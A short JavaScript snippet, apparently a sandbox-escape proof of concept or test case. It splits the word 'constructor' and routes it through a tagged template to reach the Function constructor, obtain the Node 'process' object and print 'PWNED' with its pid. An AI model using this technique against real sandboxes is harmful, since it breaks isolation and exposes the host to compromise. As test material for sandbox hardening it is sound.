'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const tag = (s, x) => x;
const o = Date.now() > 1 ? tag`${t}` : {};
console.log('PWNED', o.go(fn)('return process')().pid);
